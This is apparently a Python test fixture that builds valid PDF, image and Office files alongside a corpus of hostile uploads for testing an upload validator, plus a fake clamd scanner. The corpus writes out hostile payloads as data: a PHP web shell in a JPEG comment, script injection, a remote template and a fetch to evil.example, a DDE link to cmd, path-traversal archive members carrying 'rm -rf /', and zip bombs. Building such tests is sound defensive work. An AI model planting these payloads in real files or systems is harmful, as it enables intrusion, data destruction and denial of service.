"""Evidence files built in code -- well-formed ones and a hostile corpus -- and a fake clamd.

Nothing binary is committed: every file is made here from a few lines of bytes. The builders make
genuinely well-formed files (a PDF with a correct cross-reference table, a PNG with correct CRCs,
a baseline JPEG, Office and OpenDocument packages with their required parts), and the hostile
uploads are each a small twist on one of them.

:class:`FakeClamd` speaks clamd's real ``INSTREAM`` wire protocol on a local socket: FOUND for
the EICAR test string, OK otherwise, or ERROR, a hang or a hang-up when asked to.
"""

from __future__ import annotations

import io
import socketserver
import struct
import threading
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from types import TracebackType

MIB = 1024 * 1024

# Built from parts so this source file is not itself flagged by a virus scanner.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
RTF = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil.example')</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


# --- well-formed files -------------------------------------------------------------------------


def pdf(*, head: bytes = b"", padding: int = 0, end: bool = True) -> bytes:
    """A one-page PDF with a correct xref table; ``head`` goes right after the header."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + head)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if padding:
        out += b"%" + b"A" * padding + b"\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n" % (len(objects) + 1, xref)
    return bytes(out + (b"%%EOF\n" if end else b""))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(*extra_chunks: bytes) -> bytes:
    """A 1x1 white PNG; ``extra_chunks`` go between IHDR and IDAT."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(extra_chunks) + pixels + _chunk(b"IEND", b"")


def text_chunk(keyword: bytes, value: bytes) -> bytes:
    """A PNG ``tEXt`` chunk."""
    return _chunk(b"tEXt", keyword + b"\x00" + value)


def _segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def jpeg(*, comment: bytes = b"") -> bytes:
    """An 8x8 mid-grey baseline JPEG with one-code Huffman tables; ``comment`` as a COM segment."""
    one_code = bytes([1] + [0] * 15) + b"\x00"  # one code of length 1, for symbol 0
    return b"".join(
        [
            b"\xff\xd8",
            _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"),
            _segment(0xFE, comment) if comment else b"",
            _segment(0xDB, b"\x00" + b"\x01" * 64),
            _segment(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00"),
            _segment(0xC4, b"\x00" + one_code),
            _segment(0xC4, b"\x10" + one_code),
            _segment(0xDA, b"\x01\x01\x00\x00\x3f\x00"),
            b"\x3f",  # DC difference 0, then end of block; padded with 1 bits
            b"\xff\xd9",
        ]
    )


Member = tuple[str, bytes] | tuple[str, bytes, int]


def zip_of(members: Iterable[Member], *, comment: bytes = b"") -> bytes:
    """A ZIP archive of ``(name, data[, compression])`` members, deflated by default."""
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are wanted in one hostile file
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data, *method in members:
                info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
                info.compress_type = method[0] if method else zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
            archive.comment = comment
    return buffer.getvalue()


def _xml(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + body).encode()


def content_types(*overrides: tuple[str, str], extra_defaults: str = "") -> bytes:
    parts = "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in overrides)
    return _xml(
        f'<Types xmlns="{PKG}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{extra_defaults}{parts}</Types>"
    )


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A relationships part from ``(type, target, target mode)``; mode "" for internal."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, 1)
    )
    return _xml(f'<Relationships xmlns="{PKG}/relationships">{items}</Relationships>')


def docx_members(*, main_type: str = DOCX_MAIN, document_rels: bytes | None = None) -> list[Member]:
    """The parts of a one-paragraph Word document."""
    document = _xml(
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Letter</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    members: list[Member] = [
        ("[Content_Types].xml", content_types(("/word/document.xml", main_type))),
        ("_rels/.rels", rels(("officeDocument", "word/document.xml", ""))),
        ("word/document.xml", document),
    ]
    if document_rels is not None:
        members.append(("word/_rels/document.xml.rels", document_rels))
    return members


def docx(*extra: Member, main_type: str = DOCX_MAIN, document_rels: bytes | None = None) -> bytes:
    """A one-paragraph Word document; ``extra`` members are added at the end."""
    return zip_of([*docx_members(main_type=main_type, document_rels=document_rels), *extra])


def xlsx(*extra: Member) -> bytes:
    """A one-sheet workbook with one number in A1."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    members: list[Member] = [
        (
            "[Content_Types].xml",
            content_types(
                ("/xl/workbook.xml", XLSX_MAIN), ("/xl/worksheets/sheet1.xml", sheet_type)
            ),
        ),
        ("_rels/.rels", rels(("officeDocument", "xl/workbook.xml", ""))),
        (
            "xl/workbook.xml",
            _xml(
                f'<workbook xmlns="{main}" xmlns:r="{REL}"><sheets>'
                '<sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>'
            ),
        ),
        ("xl/_rels/workbook.xml.rels", rels(("worksheet", "worksheets/sheet1.xml", ""))),
        (
            "xl/worksheets/sheet1.xml",
            _xml(
                f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1"><v>42</v></c></row>'
                "</sheetData></worksheet>"
            ),
        ),
    ]
    return zip_of([*members, *extra])


def odt(*extra: Member, mimetype: bytes = b"application/vnd.oasis.opendocument.text") -> bytes:
    """An OpenDocument text document: ``mimetype`` stored first, as the standard requires."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    manifest = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    return zip_of(
        [
            ("mimetype", mimetype, zipfile.ZIP_STORED),
            (
                "META-INF/manifest.xml",
                _xml(
                    f'<manifest:manifest xmlns:manifest="{manifest}" manifest:version="1.2">'
                    f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{mimetype.decode()}"/>'
                    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
                    "</manifest:manifest>"
                ),
            ),
            (
                "content.xml",
                _xml(
                    f'<office:document-content xmlns:office="{office}" office:version="1.2">'
                    "<office:body><office:text/></office:body></office:document-content>"
                ),
            ),
            *extra,
        ]
    )


def docx_with_chart() -> bytes:
    """A Word document with a hyperlink and a chart whose workbook is embedded, as Word saves."""
    return docx(
        ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx()),
        document_rels=rels(
            ("hyperlink", "https://www.gov.uk/", "External"),
            ("package", "embeddings/Microsoft_Excel_Worksheet.xlsx", ""),
        ),
    )


# --- hostile twists ----------------------------------------------------------------------------


def patch_member(data: bytes, name: str, *, file_size: int | None = None, flags: int = 0) -> bytes:
    """Rewrite a member's declared size and/or set flag bits, in both of its headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(name).header_offset
    central = out.find(b"PK\x01\x02")
    while central >= 0:
        length = struct.unpack_from("<H", out, central + 28)[0]
        if out[central + 46 : central + 46 + length] == name.encode():
            break
        central = out.find(b"PK\x01\x02", central + 4)
    for flag_at, size_at in ((local + 6, local + 22), (central + 8, central + 24)):
        struct.pack_into("<H", out, flag_at, struct.unpack_from("<H", out, flag_at)[0] | flags)
        if file_size is not None:
            struct.pack_into("<I", out, size_at, file_size)
    return bytes(out)


def ratio_bomb() -> bytes:
    """A DOCX whose document is 20 MiB of zeros, deflated to about 20 KiB (written in pieces)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data, *_ in docx_members():
            if name != "word/document.xml":
                archive.writestr(name, data)
        with archive.open("word/document.xml", "w") as member:
            for _ in range(20):
                member.write(bytes(MIB))
    return buffer.getvalue()


def lying_size() -> bytes:
    """A DOCX whose picture declares 1,000 bytes but inflates to 5 MiB."""
    packed = docx(("word/media/image1.png", bytes(5 * MIB)))
    return patch_member(packed, "word/media/image1.png", file_size=1000)


@dataclass(frozen=True)
class Upload:
    """One upload: its name, how to make its bytes, and the reason it must be refused for."""

    label: str
    filename: str
    make: Callable[[], bytes]
    reason: str
    #: Sizes of files already on the draft.
    existing: tuple[int, ...] = ()


def _const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def _hostile() -> list[Upload]:
    c = _const
    zipped = zip_of([("payload.exe", PE)])
    macros_xlsx = xlsx(("xl/vbaProject.bin", OLE))
    dtd_rels = _xml(f'<!DOCTYPE r [<!ENTITY x "x">]><Relationships xmlns="{PKG}/relationships"/>')
    uploads = [
        # sizes and counts
        Upload("empty file", "empty.pdf", c(b""), "empty"),
        Upload("10 MiB + 1 byte", "big.pdf", lambda: pdf(padding=10 * MIB), "too_large"),
        Upload("a sixth file", "letter.pdf", c(pdf()), "too_many", existing=(1000,) * 5),
        Upload(
            "over the draft total",
            "letter.pdf",
            lambda: pdf(padding=5 * MIB),
            "total_too_large",
            existing=(10 * MIB, 10 * MIB),
        ),
        # names
        Upload("double extension .pdf.exe", "a.pdf.exe", c(PE), "type_not_allowed"),
        Upload("NUL in the name", "x.pdf\x00.exe", c(PE), "type_not_allowed"),
        Upload("bidi override name", "invoice\u202efdp.exe", c(PE), "type_not_allowed"),
        Upload("no extension", "letter", c(pdf()), "type_not_allowed"),
        Upload("trailing dot", "x.exe.", c(PE), "type_not_allowed"),
        Upload("SVG with script", "evil.svg", c(SVG), "type_not_allowed"),
        Upload("Word 97 .doc", "old.doc", c(OLE), "type_not_allowed"),
        Upload("RTF", "letter.rtf", c(RTF), "type_not_allowed"),
        Upload("HTML page", "page.html", c(HTML), "type_not_allowed"),
        # content that is not what the name says
        Upload("EXE named .pdf", "a.exe.pdf", c(PE), "content_mismatch"),
        Upload("ELF named .png", "program.png", c(ELF), "content_mismatch"),
        Upload("Mach-O named .jpg", "tool.jpg", c(MACHO), "content_mismatch"),
        Upload("SVG renamed .png", "image.png", c(SVG), "content_mismatch"),
        Upload("HTML named .pdf", "letter.pdf", c(HTML), "content_mismatch"),
        Upload("PNG named .pdf", "scan.pdf", c(png()), "content_mismatch"),
        Upload("ZIP named .pdf", "report.pdf", c(zipped), "content_mismatch"),
        Upload("RTF named .docx", "letter.docx", c(RTF), "content_mismatch"),
        Upload("OLE .doc named .docx", "letter.docx", c(OLE), "content_mismatch"),
        Upload("EXE before a DOCX", "setup.docx", lambda: PE + docx(), "content_mismatch"),
        Upload("traversal name", "../../etc/passwd.pdf", c(PASSWD), "content_mismatch"),
        Upload("Windows path name", "C:\\evil\\x.pdf", c(HTML), "content_mismatch"),
        Upload("PDF with no end", "cut.pdf", lambda: pdf(end=False), "content_mismatch"),
        Upload("UTF-16 text", "notes.txt", c("notes".encode("utf-16")), "content_mismatch"),
        Upload(
            "Windows-1252 text", "notes.txt", c("£50 owed".encode("cp1252")), "content_mismatch"
        ),
        Upload("plain ZIP named .docx", "a.docx", c(zipped), "content_mismatch"),
        Upload("workbook named .docx", "a.docx", xlsx, "content_mismatch"),
        Upload(
            "spreadsheet named .odt",
            "a.odt",
            lambda: odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
            "content_mismatch",
        ),
        Upload("member lies about its size", "a.docx", lying_size, "content_mismatch"),
        # polyglots and active content
        Upload(
            "PDF with <script> in its head",
            "a.pdf",
            c(pdf(head=b"%<script>alert(1)</script>\n")),
            "unsafe_content",
        ),
        Upload(
            "PDF with <html> in its head",
            "a.pdf",
            c(pdf(head=b"%<html><body>\n")),
            "unsafe_content",
        ),
        Upload("PDF + ZIP polyglot", "a.pdf", lambda: pdf() + zipped, "unsafe_content"),
        Upload("GIFAR-style PNG + ZIP", "photo.png", lambda: png() + zipped, "unsafe_content"),
        Upload("GIFAR-style JPEG + ZIP", "photo.jpg", lambda: jpeg() + zipped, "unsafe_content"),
        Upload(
            "PHP in a JPEG comment",
            "photo.jpg",
            c(jpeg(comment=b"<?php system($_GET['c']); ?>")),
            "unsafe_content",
        ),
        Upload(
            "script in a PNG text chunk",
            "photo.png",
            c(png(text_chunk(b"Comment", b"<script>alert(1)</script>"))),
            "unsafe_content",
        ),
        Upload(
            "JavaScript named .txt",
            "notes.txt",
            c(b"// notes\n<script>alert(1)</script>\n"),
            "unsafe_content",
        ),
        Upload("HTML named .txt", "notes.txt", c(HTML), "unsafe_content"),
        Upload("SVG named .txt", "notes.txt", c(SVG), "unsafe_content"),
        # inside Office and OpenDocument packages
        Upload(
            "DOCX with vbaProject.bin",
            "a.docx",
            lambda: docx(("word/vbaProject.bin", OLE)),
            "unsafe_content",
        ),
        Upload("DOCM content type", "a.docx", lambda: docx(main_type=DOCM_MAIN), "unsafe_content"),
        Upload(
            "DOCX with ActiveX",
            "a.docx",
            lambda: docx(("word/activeX/activeX1.xml", b"<ax/>")),
            "unsafe_content",
        ),
        Upload(
            "remote template injection",
            "a.docx",
            lambda: docx(
                document_rels=rels(("attachedTemplate", "https://evil.example/t.dotm", "External"))
            ),
            "unsafe_content",
        ),
        Upload(
            "embedded OLE object",
            "a.docx",
            lambda: docx(("word/embeddings/oleObject1.bin", OLE)),
            "unsafe_content",
        ),
        Upload(
            "embedded workbook with macros",
            "a.docx",
            lambda: docx(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", macros_xlsx)),
            "unsafe_content",
        ),
        Upload(
            "ZIP inside a DOCX",
            "a.docx",
            lambda: docx(("word/media/inner.zip", zipped)),
            "unsafe_content",
        ),
        Upload(
            "EXE inside a DOCX",
            "a.docx",
            lambda: docx(("word/media/image1.png", PE)),
            "unsafe_content",
        ),
        Upload(
            "member ../../evil.sh",
            "a.docx",
            lambda: docx(("../../evil.sh", b"rm -rf /")),
            "unsafe_content",
        ),
        Upload(
            "member ..\\..\\evil.bat",
            "a.docx",
            lambda: docx(("..\\..\\evil.bat", b"del *")),
            "unsafe_content",
        ),
        Upload(
            "member /etc/cron.d/x",
            "a.docx",
            lambda: docx(("/etc/cron.d/x", b"* * * * *")),
            "unsafe_content",
        ),
        Upload(
            "duplicate member names",
            "a.docx",
            lambda: docx(("word/document.xml", b"<x/>")),
            "unsafe_content",
        ),
        Upload(
            "encrypted member",
            "a.docx",
            lambda: patch_member(docx(), "word/document.xml", flags=1),
            "unsafe_content",
        ),
        Upload(
            "DTD in relationships", "a.docx", lambda: docx(document_rels=dtd_rels), "unsafe_content"
        ),
        Upload("XLSX with vbaProject.bin", "a.xlsx", c(macros_xlsx), "unsafe_content"),
        Upload(
            "XLSX external link (DDE)",
            "a.xlsx",
            lambda: xlsx(
                (
                    "xl/externalLinks/externalLink1.xml",
                    b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
                )
            ),
            "unsafe_content",
        ),
        Upload(
            "ODT with Basic macros",
            "a.odt",
            lambda: odt(("Basic/Standard/Module1.xml", b"<m/>")),
            "unsafe_content",
        ),
        # zip bombs
        Upload("zip bomb: ratio over 100", "a.docx", ratio_bomb, "unsafe_content"),
        Upload(
            "zip bomb: declares 200 MiB",
            "a.docx",
            lambda: patch_member(
                docx(("word/media/big.bin", b"x" * 100)), "word/media/big.bin", file_size=200 * MIB
            ),
            "unsafe_content",
        ),
        Upload(
            "zip bomb: 1,001 members",
            "a.docx",
            lambda: docx(*((f"word/media/m{i}.xml", b"<m/>") for i in range(1001))),
            "unsafe_content",
        ),
        # the scanner
        Upload("EICAR test file", "eicar.txt", c(EICAR), "infected"),
    ]
    return uploads


HOSTILE: list[Upload] = _hostile()

#: Well-formed files: (name, bytes, the content type the SDK must record).
BENIGN: list[tuple[str, bytes, str]] = [
    ("Letter from school.pdf", pdf(), "application/pdf"),
    ("photo of letter.png", png(), "image/png"),
    ("photo.jpg", jpeg(), "image/jpeg"),
    ("PHOTO.JPEG", jpeg(comment=b"Taken on a phone"), "image/jpeg"),
    (
        "Assessment.docx",
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    (
        "Report with chart.docx",
        docx_with_chart(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    ("Budget.xlsx", xlsx(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("Minutes.odt", odt(), "application/vnd.oasis.opendocument.text"),
    (
        "notes.txt",
        "\ufeffMeeting notes: £50 owed, 3 < 4 😊\n".encode(),
        "text/plain; charset=utf-8",
    ),
]


# --- a fake clamd ------------------------------------------------------------------------------


def _receive(connection: socketserver.BaseRequestHandler, count: int) -> bytes:
    data = b""
    while len(data) < count:
        piece = connection.request.recv(count - len(data))
        if not piece:
            raise ConnectionError("client hung up")
        data += piece
    return data


class _Handler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        fake: FakeClamd = self.server.fake  # type: ignore[attr-defined]
        command = b""
        while not command.endswith(b"\0"):
            command += _receive(self, 1)
        if command == b"zPING\0":
            self.request.sendall(b"PONG\0")
            return
        if fake.mode == "hang":
            fake.release.wait(10)
            return
        if fake.mode == "hang-up":
            return
        received = bytearray()
        while size := struct.unpack(">I", _receive(self, 4))[0]:
            received += _receive(self, size)
            if len(received) > fake.stream_max:
                self.request.sendall(b"INSTREAM size limit exceeded. ERROR\0")
                return
        fake.received.append(bytes(received))
        if fake.mode == "error":
            reply = b"stream: Can't allocate memory ERROR"
        elif EICAR in received:
            reply = b"stream: Eicar-Test-Signature FOUND"
        else:
            reply = b"stream: OK"
        self.request.sendall(reply + b"\0")


class _TCPServer(socketserver.ThreadingTCPServer):
    fake: FakeClamd
    daemon_threads = True
    allow_reuse_address = True


class _UnixServer(socketserver.ThreadingUnixStreamServer):
    fake: FakeClamd
    daemon_threads = True


class FakeClamd:
    """A local clamd stand-in. ``mode``: ``ok`` (FOUND for EICAR), ``error``, ``hang``, ``hang-up``."""

    def __init__(
        self, mode: str = "ok", *, unix_socket: Path | None = None, stream_max: int = 25 * MIB
    ) -> None:
        self.mode = mode
        self.stream_max = stream_max
        self.received: list[bytes] = []
        self.release = threading.Event()
        self.server: _TCPServer | _UnixServer = (
            _TCPServer(("127.0.0.1", 0), _Handler)
            if unix_socket is None
            else _UnixServer(str(unix_socket), _Handler)
        )
        self.server.fake = self
        self._thread = threading.Thread(target=self.server.serve_forever, args=(0.02,), daemon=True)

    @property
    def port(self) -> int:
        return int(self.server.server_address[1])  # type: ignore[index]

    def __enter__(self) -> FakeClamd:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        self.release.set()
        self.server.shutdown()
        self.server.server_close()
        self._thread.join(5)
